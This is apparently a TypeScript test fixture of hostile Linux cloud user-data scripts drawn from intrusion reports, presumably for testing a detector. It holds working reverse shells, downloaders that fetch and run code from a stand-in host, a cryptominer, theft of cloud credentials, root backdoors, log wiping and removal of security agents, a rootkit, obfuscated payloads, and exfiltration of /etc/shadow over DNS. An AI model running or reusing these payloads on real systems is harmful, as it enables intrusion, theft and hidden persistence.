// User data as intruders have left it on Linux, expressed anew for these tests from published reports. Hosts, keys and names are ours.
// Data only: never paste any of it into a shell, not even to write a file.

const base64 = (text: string) => Buffer.from(text).toString('base64');
const KEY = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLE x@host';

export const HOSTILE_LINUX: Record<string, string> = {
  'boothook that loads and runs': '#cloud-boothook\n#!/bin/sh\ncurl -s http://203.0.113.7/b.sh | bash\n',
  'boothook that opens a shell': '#cloud-boothook\n#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1 &\n',
  'MIME document that runs its script at every boot': `Content-Type: multipart/mixed; boundary="//"
MIME-Version: 1.0

--//
Content-Type: text/cloud-config; charset="us-ascii"

#cloud-config
cloud_final_modules:
- [scripts-user, always]

--//
Content-Type: text/x-shellscript; charset="us-ascii"

#!/bin/bash
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsSL http://203.0.113.7/x | sh") | crontab -
--//--
`,
  'miner with its pool': `#!/bin/bash
cd /tmp && wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz
./xmrig-6.21.0/xmrig -o pool.badhost.net:3333 -u WALLET -k --donate-level 1 -B
`,
  'miner as a service': `#!/bin/bash
curl -o /usr/bin/kworkerd http://203.0.113.7/k && chmod +x /usr/bin/kworkerd
printf '[Service]\\nExecStart=/usr/bin/kworkerd -o stratum+tcp://203.0.113.7:443\\nRestart=always\\n' > /etc/systemd/system/kworkerd.service
systemctl enable --now kworkerd
`,
  'key for root': `#!/bin/bash\necho "${KEY}" >> /root/.ssh/authorized_keys\n`,
  'second root': `#!/bin/bash
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support
echo 'support:Qwerty12345' | chpasswd
`,
  'sudo for everybody': `#cloud-config
bootcmd:
  - echo "ALL ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/99-default
`,
  'credentials of the role sent away': `#!/bin/bash
R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$R | curl -s -X POST -d @- http://203.0.113.7/c
`,
  'credentials of the role, in base64': `#!/bin/bash
echo ${base64('curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web > /dev/shm/c')} | base64 -d | bash
`,
  'Python shell': `#!/bin/sh
python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'
`,
  'named pipe and netcat': `#!/bin/sh
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 9001 > /tmp/f
`,
  'Perl shell': `#!/bin/sh
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4242,inet_aton("203.0.113.7")))){open(STDIN,">&S");exec("/bin/sh -i");};'
`,
  'socat with a terminal': `#!/bin/bash
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4443
`,
  'logging and agents off, traces gone': `#!/bin/bash
systemctl stop auditd amazon-ssm-agent amazon-cloudwatch-agent
systemctl disable --now falcon-sensor
unset HISTFILE
rm -rf /var/log/audit /var/log/secure*
history -c
`,
  'agents uninstalled': `#!/bin/bash
yum remove -y amazon-ssm-agent falcon-sensor
rpm -e wazuh-agent
iptables -F
setenforce 0
`,
  'preloaded library': `#!/bin/bash
wget -q -O /usr/local/lib/libsystem.so http://203.0.113.7/l.so
echo /usr/local/lib/libsystem.so > /etc/ld.so.preload
`,
  'shell with the rights of root': `#!/bin/bash
cp /bin/bash /usr/local/bin/.sysd
chmod 4755 /usr/local/bin/.sysd
`,
  'hidden file in a temporary folder': `#!/bin/bash
wget -q http://203.0.113.7/ntpd -O /tmp/.ntpd && chmod 755 /tmp/.ntpd && nohup /tmp/.ntpd >/dev/null 2>&1 &
`,
  'profile that calls home': `#!/bin/bash
echo 'curl -s http://203.0.113.7/p | sh &' >> /etc/profile.d/locale.sh
`,
  'service that loads at each start': `#cloud-config
write_files:
  - path: /etc/systemd/system/dbus-org.service
    content: |
      [Service]
      ExecStart=/bin/bash -c "curl -s http://203.0.113.7/s | bash"
`,
  'udev rule': `#!/bin/bash
echo 'ACTION=="add", SUBSYSTEM=="net", RUN+="/dev/shm/.u"' > /etc/udev/rules.d/75-net.rules
`,
  'kernel module': `#!/bin/bash
cd /var/tmp && curl -sO http://203.0.113.7/d.tar && tar xf d.tar && make -C d && insmod d/diamorphine.ko
`,
  'tunnel by SSH': `#!/bin/bash
ssh -o StrictHostKeyChecking=no -fN -R 2222:localhost:22 t@203.0.113.7
`,
  'tunnel by chisel': `#!/bin/bash
curl -sL https://github.com/jpillora/chisel/releases/download/v1.10.0/chisel_1.10.0_linux_amd64.gz | gunzip > /usr/bin/netd
chisel client https://c.badhost.net R:socks
`,
  'ngrok to the SSH port': `#!/bin/bash
snap install ngrok
ngrok tcp 22 &
`,
  'command broken up with a variable': `#!/bin/sh
c=curl; $c -o /x\${IFS}203.0.113.7/i; cat\${IFS}/x
`,
  'script in hex': `#!/bin/bash
echo ${Buffer.from('curl -s http://203.0.113.7/h | sh').toString('hex')} | xxd -r -p | bash
`,
  'script in base64 given to eval': `#!/bin/bash
eval "$(echo ${base64('wget -q http://203.0.113.7/e -O /x')} | base64 -d)"
`,
  'worm that looks for other hosts': `#!/bin/bash
masscan 10.0.0.0/8 -p2375,6379 --rate 10000 -oL /tmp/o
for h in $(awk '{print $4}' /tmp/o); do docker -H tcp://$h:2375 run -d -v /:/mnt alpine chroot /mnt id; done
`,
  'DNS carries data out': `#!/bin/bash
for l in $(cat /etc/shadow | xxd -p -c 30); do dig +short $l.q.badhost.net; done
`,
};
